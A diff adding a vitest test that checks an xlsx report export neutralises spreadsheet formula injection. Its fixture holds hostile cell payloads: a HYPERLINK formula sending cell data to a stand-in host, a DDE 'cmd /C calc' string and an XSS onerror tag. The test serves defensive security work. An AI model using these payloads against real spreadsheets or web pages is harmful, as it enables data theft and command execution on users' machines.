@@ -5,7 +5,7 @@
 // then finishImport.ts for what can be confirmed) must say the same. The e2e case test/e2e/cases/corpus.mjs runs the
 // same manifest through the built app. The 200 MB GeoJSON is written to a temp folder here, never committed.
 import { spawnSync } from 'node:child_process';
-import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
+import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { basename, dirname, join, relative } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -190,6 +190,36 @@ describe("the import dialog's readers on every corpus file (preview.ts, then fin
     expect(added, `${name}: confirmable`).toBe(a.added);
     // A file that cannot be added says why.
     if (!a.added) expect(messages.length, name).toBeGreaterThan(0);
+  });
+});
+
+describe('exports neutralise formula injection (issue 9 part 5)', () => {
+  it('park-atlas report: text that starts like a formula is written as text, and no cell holds a formula', async () => {
+    const ExcelJS = (await import('exceljs')).default;
+    const hostile = ['=HYPERLINK("http://evil.invalid/?"&A1,"open")', '+SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1)', '\t=1+1', '<img src=x onerror=alert(1)>'];
+    const sq = (x: number) => [[[x, 33], [x + 0.002, 33], [x + 0.002, 33.0015], [x, 33.0015], [x, 33]]];
+    const layer = { type: 'FeatureCollection', kind: 'parcel', features: hostile.map((h, i) => ({ type: 'Feature', id: h, properties: { name: h, enterprise: h, industry: h, landUse: 'industrial', investmentWan: 100, agreedStartDate: '2018-01-01', landPriceWan: 10, [h]: h }, geometry: { type: 'Polygon', coordinates: sq(114 + i * 0.003) } })) };
+    const input = join(tmp, 'hostile.geojson');
+    const out = join(tmp, 'hostile.xlsx');
+    writeFileSync(input, JSON.stringify(layer));
+    const r = await runCli(['report', input, '-o', out, '--review-date', '2026-06-30', '--lang', 'en']);
+    expect(r.code, r.stderr).toBe(0);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.readFile(out);
+    const texts: string[] = [];
+    let formulas = 0;
+    wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => {
+      if (cell.type === ExcelJS.ValueType.Formula) formulas++;
+      if (typeof cell.value === 'string') texts.push(cell.value);
+    })));
+    expect(formulas).toBe(0);
+    // Every payload reached the workbook, each behind an apostrophe when it starts like a formula (xlsx.ts guardText).
+    for (const h of hostile) {
+      const risky = /^[=+\-@\t\r]/.test(h);
+      const want = risky ? `'${h}` : h;
+      expect(texts, h).toContain(want);
+      if (risky) expect(texts.some((t) => t === h), `${h} written bare`).toBe(false);
+    }
   });
 });
 
